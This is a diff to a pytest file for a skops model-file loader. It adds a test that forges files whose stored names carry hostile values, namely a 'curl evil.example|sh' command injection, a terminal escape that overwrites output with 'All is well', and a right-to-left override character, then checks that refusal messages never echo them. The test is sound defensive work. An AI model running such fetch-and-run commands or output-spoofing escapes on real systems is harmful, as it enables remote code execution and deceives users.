@@ -143,6 +143,15 @@ def test_evil_deep_inside_a_trusted_object_is_refused(path):
         load(path)
 
 
+@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "x\x1b[2K\rAll is well", "\u202ex"])
+def test_what_has_no_name_in_python_is_not_repeated(name, path):
+    """A refusal is read in a terminal, and its advice pasted into one."""
+    forge(path, schema=put(state("numpy", name)))
+    with pytest.raises(ModelFileError, match="made to do harm") as refusal:
+        load(path)
+    assert name not in str(refusal.value)
+
+
 @pytest.mark.parametrize("protocol", [0, 1, -1, None, True, "2", 99])
 def test_other_protocols_of_skops_are_refused(path, protocol):
     forge(path, schema=lambda schema: schema.update(protocol=protocol))
@@ -185,14 +194,13 @@ def piped(function):
 
 
 @pytest.mark.usefixtures("importable")
-def test_numpy_s_functions_are_trusted_and_others_by_name(tmp_path):
-    save(piped(np.tanh), tmp_path / "numpy.skops")
-    assert load(tmp_path / "numpy.skops").model.predict(X).tolist() == Y
-    save(piped(times_two), tmp_path / "own.skops")
-    name = f"{__name__}.times_two"
-    with pytest.raises(ModelFileError, match="times_two"):
-        load(tmp_path / "own.skops")
-    assert load(tmp_path / "own.skops", trusted=[name]).model.predict(X).tolist() == Y
+@pytest.mark.parametrize("function", [np.tanh, times_two])
+def test_functions_are_trusted_by_name_alone(function, tmp_path):
+    save(piped(function), tmp_path / "model.skops")
+    with pytest.raises(ModelFileError, match=rf"--trust [\w.]+\.{function.__name__} ") as refusal:
+        load(tmp_path / "model.skops")
+    name = str(refusal.value).split("--trust ")[1].split()[0]
+    assert load(tmp_path / "model.skops", trusted=[name]).model.predict(X).tolist() == Y
 
 
 def test_lambdas_are_refused_when_saving(tmp_path):
